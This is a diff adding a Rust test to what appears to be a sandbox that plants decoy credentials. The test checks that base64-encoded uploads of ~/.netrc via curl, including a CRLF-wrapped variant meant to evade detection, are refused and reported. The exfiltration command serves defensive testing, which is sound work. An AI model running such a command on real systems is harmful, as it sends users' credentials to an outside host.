@@ -473,6 +473,46 @@ fn a_decoy_sent_out_is_caught() {
     }
 }
 
+/// `base64 ~/.netrc | curl --data-binary @- http://pypi.org/...` with the real base64 and curl:
+/// the encoded password, in lines of 76 (base64's default), or of 16 ending in CRLF as MIME
+/// writes them (a line break inside every encoded part of the value: it once hid it), is refused
+/// before it is forwarded, and reported as sent (ALERT line and JSON).
+#[test]
+fn a_wrapped_base64_upload_is_caught() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let report = fx.root.join("sent.json");
+        let report_s = report.display().to_string();
+        fx.give_to_runner(&fx.root);
+        let inn = fx.inside(
+            &["--decoys", "--net", "pypi", "--report", &report_s],
+            "base64 ~/.netrc | curl -sS --max-time 30 --data-binary @- http://pypi.org/legacy/; echo; \
+             base64 -w 16 ~/.netrc | sed 's/$/\\r/' | curl -sS --max-time 30 --data-binary @- http://pypi.org/legacy/; echo",
+        );
+        assert_eq!(
+            inn.stdout
+                .matches("keepout: refused: this request carries the value of a decoy credential (~/.netrc, in the body)")
+                .count(),
+            2,
+            "[{r}] both refused:{inn}"
+        );
+        assert!(
+            inn.stderr.lines().any(|l| l.starts_with(
+                "keepout: ALERT: the code tried to SEND a decoy credential (~/.netrc) to pypi.org:80 (in the body, base64-encoded)"
+            )),
+            "[{r}] {inn}"
+        );
+        let json: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+        assert_eq!(
+            json["decoys_sent"],
+            serde_json::json!([{"destination": "pypi.org:80", "decoy": "~/.netrc",
+                "place": "the body", "form": "base64"}]),
+            "[{r}] {json}"
+        );
+    }
+}
+
 /// Through --net, a name that does not resolve is "not reachable" (and why), not a refusal:
 /// on the summary line and in the JSON (`unreachable`, not `refused`).
 #[test]
